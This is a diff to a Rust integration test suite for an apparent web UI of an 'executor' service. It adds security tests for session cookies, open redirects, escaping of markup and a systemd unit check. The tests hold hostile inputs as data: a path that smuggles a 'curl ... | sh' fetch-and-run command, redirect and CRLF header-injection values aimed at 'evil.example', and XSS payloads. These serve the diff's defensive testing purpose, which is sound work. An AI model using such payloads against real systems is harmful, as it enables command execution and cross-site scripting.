@@ -58,7 +58,11 @@ async fn the_web_ui_adds_runs_and_approves_in_chromium() {
     assert_eq!(saw["afterLogin"], "/");
     assert_eq!(
         saw["cookies"],
-        json!([{"name": "executor_session", "httpOnly": true, "sameSite": "Strict"}])
+        json!([{
+            "name": format!("executor_session_{}", service.url.rsplit(':').next().unwrap()),
+            "httpOnly": true,
+            "sameSite": "Strict"
+        }])
     );
     assert_eq!(saw["clipboard"], format!("{}/mcp", service.url));
     assert!(
@@ -180,6 +184,20 @@ async fn browser_sessions_are_one_time_http_only_and_csrf_bound() {
         assert_eq!(r.status(), 401, "{page}");
         assert!(r.text().await.unwrap().contains("executor web"), "{page}");
     }
+    // A path that is not plain never reaches the printed command.
+    let r = browser
+        .get(format!(
+            "{}/integrations/x;curl$IFS-s$IFS.example|sh",
+            service.url
+        ))
+        .send()
+        .await
+        .unwrap();
+    let page = r.text().await.unwrap();
+    assert!(
+        page.contains("executor web") && !page.contains("--page"),
+        "{page}"
+    );
     // An approval page says how to sign in and land on it.
     let r = browser
         .get(format!("{}/resume/exec_0123", service.url))
@@ -200,15 +218,25 @@ async fn browser_sessions_are_one_time_http_only_and_csrf_bound() {
         text(&out.stderr)
     );
 
+    // Only this service's plain paths are followed after signing in.
+    for next in [
+        "//evil.example/",
+        "/%09/evil.example",
+        "/%0d%0aSet-Cookie:x=1",
+        "/\\evil.example",
+    ] {
+        let url = login_url(&service);
+        let r = browser
+            .get(format!("{url}&next={next}"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 303, "{next}");
+        assert_eq!(r.headers()["location"], "/", "{next}");
+    }
     let url = login_url(&service);
-    // Only this service's paths are followed after signing in.
-    let r = browser
-        .get(format!("{url}&next=//evil.example/"))
-        .send()
-        .await
-        .unwrap();
+    let r = browser.get(&url).send().await.unwrap();
     assert_eq!(r.status(), 303);
-    assert_eq!(r.headers()["location"], "/");
     let cookie = r.headers()["set-cookie"].to_str().unwrap().to_owned();
     for attribute in ["HttpOnly", "SameSite=Strict", "Path=/"] {
         assert!(cookie.contains(attribute), "{cookie}");
@@ -240,6 +268,39 @@ async fn browser_sessions_are_one_time_http_only_and_csrf_bound() {
         .unwrap()
         .to_owned();
     assert_eq!(csrf.len(), 64);
+
+    // What sources say is text, never markup.
+    let spec = "openapi: 3.1.0
+info: { title: '<script>alert(1)</script>', version: '1', description: '<b onmouseover=alert(3)>x</b>' }
+paths:
+  /x:
+    get:
+      operationId: x
+      summary: '<img src=x onerror=alert(2)>'
+      responses: { '200': { description: ok } }
+";
+    let r = service
+        .invoke(
+            "executor.openapi.addSource",
+            json!({"spec": spec, "namespace": "xss", "baseUrl": "http://127.0.0.1:9"}),
+        )
+        .await;
+    assert_eq!(r.1["ok"], true, "{}", r.1);
+    for page in ["/", "/integrations/xss"] {
+        let html = browser
+            .get(format!("{}{page}", service.url))
+            .header("cookie", &session)
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap();
+        for raw in ["<script>alert", "<img src=x", "<b onmouseover"] {
+            assert!(!html.contains(raw), "{page} carries {raw}");
+        }
+        assert!(html.contains("&#60;script&#62;alert(1)"), "{page}: {html}");
+    }
 
     let add = |csrf: Option<&str>, origin: Option<&str>| {
         let mut request = browser
@@ -370,11 +431,12 @@ fn the_systemd_unit_verifies() {
         .arg(&path)
         .output()
     {
+        // Complaints about the machine (no bus, other units) are not about
+        // this unit; any line naming it is.
+        let said = format!("{}{}", text(&verify.stdout), text(&verify.stderr));
         assert!(
-            verify.status.success() && verify.stderr.is_empty(),
-            "systemd-analyze verify: {}{}",
-            text(&verify.stdout),
-            text(&verify.stderr)
+            verify.status.success() && !said.contains("executor.service"),
+            "systemd-analyze verify: {said}"
         );
     }
 }
